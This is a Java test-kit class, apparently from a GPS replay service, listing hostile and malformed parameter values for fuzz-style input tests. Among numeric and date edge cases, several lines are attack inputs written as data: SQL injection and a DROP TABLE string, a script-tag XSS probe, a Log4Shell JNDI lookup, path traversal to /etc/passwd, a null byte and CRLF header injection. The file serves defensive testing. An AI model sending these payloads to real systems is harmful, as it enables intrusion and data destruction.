package dev.gpsreplay.testkit;

import java.util.List;

/** Values a hostile or careless caller sends for any parameter: both services' hostile-parameter tests send each. */
public final class HostileValues {

    /** Every one of them, for any parameter. */
    public static final List<String> ALL = List.of(
            "",
            " ",
            "-1",
            "0",
            "-0",
            "0.0",
            "2.5",
            "1e1",
            "NaN",
            "-NaN",
            "Infinity",
            "-Infinity",
            "1e309",
            "-1e309",
            "4.9e-324",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999999999999",
            "0x1p3",
            "10d",
            "1_000",
            "١٢",
            "true",
            "null",
            "[]",
            "{}",
            "+300000000-01-01T00:00:00Z",
            "-300000000-01-01T00:00:00Z",
            "2019-12-24T20:21:27Z",
            "9999-99-99",
            "' OR '1'='1' --",
            "1; DROP TABLE fixes",
            "<script>alert(1)</script>",
            "${jndi:ldap://x/a}",
            "%00",
            "\u0000",
            "../../etc/passwd",
            "bus-17\r\nX-Injected: 1",
            "😀🚌",
            "ÿþ",
            "a".repeat(10_240),
            "9".repeat(10_240));

    private HostileValues() {}
}
